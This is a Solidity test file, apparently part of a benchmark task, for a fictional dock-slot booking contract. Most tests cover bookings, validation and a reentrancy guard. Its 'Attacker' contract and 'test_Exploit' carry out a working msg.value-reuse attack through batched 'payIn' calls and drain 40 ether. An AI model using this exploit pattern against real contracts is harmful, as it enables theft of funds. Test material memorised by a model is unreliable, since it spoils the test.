// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./DockSlots.sol";

// assay-canary-3a71168b-f014-4031-a59c-33f3e6e8574f

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// Tries what is locked while it is paid, and counts what the lock refuses.
contract Hook {
    DockSlots private slots;
    address payable private other;
    uint256 public refused;

    constructor(DockSlots s, address payable o) {
        (slots, other) = (s, o);
    }

    function attempt(bytes memory data) private {
        (bool done, bytes memory why) = address(slots).call(data);
        if (!done && bytes4(why) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refused++;
    }

    receive() external payable {
        attempt(abi.encodeCall(DockSlots.withdraw, (other, 1 ether)));
        attempt(abi.encodeCall(DockSlots.collect, (other, 0.5 ether)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant OWNER = address(0x09E);
    uint256 private constant START = 1_700_000_000;

    DockSlots private slots;
    Attacker private mallory;
    uint256 private hour;

    function setUp() public {
        vm.warp(START);
        slots = new DockSlots(4, 0.5 ether, OWNER);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANA);
        slots.payIn{value: 18 ether}();
        vm.prank(BEN);
        slots.payIn{value: 16 ether}();
        hour = START / 1 hours + 30;
        vm.prank(ANA);
        slots.book(0, hour);
        mallory = new Attacker(slots);
        vm.deal(address(mallory), 10 ether);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        bytes[] memory steps = new bytes[](3);
        steps[0] = abi.encodeCall(DockSlots.book, (1, hour));
        steps[1] = abi.encodeCall(DockSlots.book, (2, hour));
        steps[2] = abi.encodeCall(DockSlots.handOver, (2, hour, BEN));
        require(slots.inOne(steps).length == 3, "three steps");
        vm.stopPrank();
        (address carrier, uint256 paid) = slots.slotAt(2, hour);
        require(carrier == BEN && paid == 0.5 ether && slots.balanceOf(ANA) == 16.5 ether, "booked");
        vm.prank(OWNER);
        slots.setPrice(0.75 ether);
        vm.prank(BEN);
        slots.release(2, hour);
        require(slots.balanceOf(BEN) == 16.5 ether && slots.earned() == 0, "released");
        vm.startPrank(BEN);
        slots.payIn{value: 1 ether}();
        slots.book(3, hour);
        slots.withdraw(payable(BEN), 16.75 ether);
        require(BEN.balance == 19.75 ether && slots.balanceOf(BEN) == 0, "withdrawn");
        vm.stopPrank();
        vm.prank(ANA);
        slots.handOver(1, hour, BEN);
        vm.warp(hour * 1 hours - 11 hours);
        slots.settle(1, hour);
        slots.settle(3, hour);
        (carrier, paid) = slots.slotAt(3, hour);
        require(carrier == BEN && paid == 0 && slots.earned() == 1.25 ether, "earned");
        vm.prank(OWNER);
        slots.collect(payable(OWNER), 1 ether);
        require(OWNER.balance == 1 ether && slots.earned() == 0.25 ether, "collected");
        vm.prank(OWNER);
        slots.transferOwnership(ANA);
        vm.prank(ANA);
        slots.renounceOwnership();
    }

    function test_RefusesSetups() public {
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NoSuchDock.selector, 0));
        new DockSlots(0, 1 ether, OWNER);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.BadPrice.selector, 0));
        new DockSlots(1, 0, OWNER);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.BadPrice.selector, 1_000 ether + 1 gwei));
        new DockSlots(1, 1_000 ether + 1 gwei, OWNER);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.BadPrice.selector, 1));
        new DockSlots(1, 1, OWNER);
        new DockSlots(1, 1_000 ether, OWNER);
    }

    function test_RefusesBookings() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NoSuchDock.selector, 4));
        slots.book(4, hour);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.Taken.selector, 0, hour));
        slots.book(0, hour);
        uint256 now_ = START / 1 hours;
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NotAhead.selector, now_));
        slots.book(1, now_);
        vm.warp((now_ + 1) * 1 hours);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NotAhead.selector, now_ + 1));
        slots.book(1, now_ + 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(DockSlots.Short.selector, 0, 0.5 ether));
        slots.book(1, hour);
    }

    function test_RefusesCarriers() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NotYours.selector, 0, hour));
        slots.release(0, hour);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NotYours.selector, 0, hour));
        slots.handOver(0, hour, BEN);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.Short.selector, 16 ether, 16 ether + 1));
        slots.withdraw(payable(BEN), 16 ether + 1);
        vm.expectRevert(DockSlots.NoAccount.selector);
        slots.withdraw(payable(address(0)), 1);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert(DockSlots.NoAccount.selector);
        slots.handOver(0, hour, address(0));
        vm.warp(hour * 1 hours - 12 hours + 1);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.TooLate.selector, hour));
        slots.release(0, hour);
        vm.warp(hour * 1 hours - 12 hours);
        slots.release(0, hour);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        slots.setPrice(1 ether);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        slots.collect(payable(BEN), 1);
        vm.warp(hour * 1 hours - 12 hours);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NotAhead.selector, hour));
        slots.settle(0, hour);
        vm.warp(hour * 1 hours - 12 hours + 1);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.NothingPaid.selector, 1, hour));
        slots.settle(1, hour);
        slots.settle(0, hour);
        vm.startPrank(OWNER);
        vm.expectRevert(DockSlots.NoAccount.selector);
        slots.collect(payable(address(0)), 1);
        vm.expectRevert(abi.encodeWithSelector(DockSlots.Short.selector, 0.5 ether, 0.5 ether + 1));
        slots.collect(payable(OWNER), 0.5 ether + 1);
        vm.stopPrank();
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook(slots, payable(ANA));
        vm.deal(address(hook), 1 ether);
        vm.prank(address(hook));
        slots.payIn{value: 1 ether}();
        vm.prank(OWNER);
        slots.transferOwnership(address(hook));
        vm.warp(hour * 1 hours);
        slots.settle(0, hour);
        vm.prank(BEN);
        slots.withdraw(payable(address(hook)), 1 ether);
        require(hook.refused() == 2, "entered again");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 35 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(slots);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    DockSlots private slots;

    constructor(DockSlots s) {
        slots = s;
    }

    function run() external {
        bytes[] memory steps = new bytes[](4);
        for (uint256 i = 0; i < 4; i++) {
            steps[i] = abi.encodeCall(DockSlots.payIn, ());
        }
        (bool done,) = address(slots).call{value: 10 ether}(abi.encodeCall(DockSlots.inOne, (steps)));
        require(done, "refused");
        slots.withdraw(payable(address(this)), 40 ether);
    }

    receive() external payable {}
}
